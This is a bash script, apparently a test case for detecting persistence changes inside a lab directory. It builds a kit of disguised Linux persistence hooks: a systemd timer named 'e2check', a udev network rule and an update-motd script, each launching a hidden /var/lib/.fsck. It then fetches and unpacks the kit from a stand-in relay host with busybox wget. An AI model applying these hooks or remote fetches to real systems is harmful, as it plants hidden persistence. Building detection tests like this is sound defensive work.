#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=persistence-change half=report tool=busybox far=out seconds=14 parts=dns,outside-web before=yes
# busybox unpacks what it fetches over the host: a timer of systemd with its link, a rule of udev, a line of motd; the host's root is a folder of the lab.
# config: host_root: {dir}/host
if [ "$1" = before ]; then "$(dirname "$0")/../far/host-root.sh"; mkdir -p "$LAB"/host/etc/{udev/rules.d,update-motd.d,systemd/system/timers.target.wants}; exit; fi
if [ "$1" = out ]; then
	k=$LAB/kit/etc; mkdir -p "$k"/{udev/rules.d,update-motd.d,systemd/system/timers.target.wants} "$LAB/outside/drop"
	printf '[Service]\nExecStart=/var/lib/.fsck\n' >"$k/systemd/system/e2check.service"
	printf '[Timer]\nOnCalendar=*:0/10\n[Install]\nWantedBy=timers.target\n' >"$k/systemd/system/e2check.timer"; ln -s ../e2check.timer "$k/systemd/system/timers.target.wants/"
	echo 'ACTION=="add", SUBSYSTEM=="net", RUN+="/var/lib/.fsck"' >"$k/udev/rules.d/71-net-queue.rules"; printf '#!/bin/sh\n/var/lib/.fsck &\n' >"$k/update-motd.d/11-news"
	tar czf "$LAB/outside/drop/kit.tgz" -C "$LAB/kit" etc; sleep 16; exit 0
fi
sleep 2; busybox wget -q -O - http://relay.example.net/drop/kit.tgz | busybox tar xzf - -C "$LAB/host"; sleep 6
[ -L "$LAB/host/etc/systemd/system/timers.target.wants/e2check.timer" ] && [ -s "$LAB/host/etc/udev/rules.d/71-net-queue.rules" ]
